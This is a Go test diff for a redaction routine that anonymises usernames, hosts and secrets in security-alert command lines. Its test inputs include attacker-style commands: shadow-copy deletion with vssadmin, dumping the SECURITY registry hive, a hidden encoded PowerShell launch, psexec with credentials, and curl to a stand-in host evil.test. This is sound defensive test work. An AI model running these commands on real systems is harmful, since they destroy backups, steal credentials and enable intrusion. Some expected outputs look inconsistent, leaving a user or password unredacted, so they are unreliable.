@@ -81,3 +81,37 @@ func TestRedactKeeps(t *testing.T) {
 		t.Errorf("Redact: %v", err)
 	}
 }
+
+// Command lines carry secrets, and names of hosts and users that stand nowhere else.
+func TestRedactCommandLines(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{`net user jdoe Winter2026! /add`, `net user user-1 SECRET-1 /add`},
+		{`net.exe user jdoe /delete`, `net.exe user user-1 /delete`},
+		{`net user`, `net user`},
+		{`net use Z: \\FILE7\c$ /user:CORP\jdoe hunter22`, `net use Z: \\HOST-1\c$ /user:DOMAIN-1\user-1 hunter22`},
+		{`psexec \\FILE7.corp.test\x -u CORP\jdoe -p s3cret! cmd`, `psexec \\HOST-1.domain-1.example\x -u CORP\jdoe -p SECRET-1 cmd`},
+		{`schtasks /create /ru jdoe /rp "s3cret" /tn x`, `schtasks /create /ru user-1 /rp "SECRET-1" /tn x`},
+		{`mysql --password=s3cret --host x`, `mysql --password=SECRET-1 --host x`},
+		{`x.exe --token s3cret s3cret`, `x.exe --token SECRET-1 SECRET-1`},
+		{`curl -H "Authorization: Bearer abcdef.123456"`, `curl -H "Authorization: Bearer SECRET-1"`},
+		{`curl https://bot:s3cret@evil.test/a`, `curl https://bot:SECRET-1@evil.test/a`},
+		{`aws AKIAIOSFODNN7EXAMPLE`, `aws SECRET-1`},
+		{`{"api_key": "s3cret", "n": 1}`, `{"api_key": "SECRET-1", "n": 1}`},
+		{`cmd /c "cd C:\Users\jdoe"`, `cmd /c "cd C:\Users\user-1"`},
+		{`\Device\HarddiskVolume3\Users\jdoe\a.exe`, `\Device\HarddiskVolume3\Users\user-1\a.exe`},
+		{`{"path": "C:\\Users\\jdoe\\a.exe"}`, `{"path": "C:\\Users\\user-1\\a.exe"}`},
+		{`\\.\pipe\x \\?\C:\y \\127.0.0.1\admin$`, `\\.\pipe\x \\?\C:\y \\127.0.0.1\admin$`},
+		{`vssadmin.exe delete shadows /all /quiet`, `vssadmin.exe delete shadows /all /quiet`},
+		{`reg save HKLM\SECURITY C:\Temp\security.hive`, `reg save HKLM\SECURITY C:\Temp\security.hive`},
+		{`powershell -NoP -W Hidden -enc SQBFAFgA`, `powershell -NoP -W Hidden -enc SQBFAFgA`},
+	} {
+		alert := soar.Alert{Server: "er", ID: "1", Event: map[string]string{"cmdline": tt.in}}
+		got, _, err := playtest.Redact(&alert, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got.Event["cmdline"] != tt.want {
+			t.Errorf("Redact(%s)\n got %s\nwant %s", tt.in, got.Event["cmdline"], tt.want)
+		}
+	}
+}
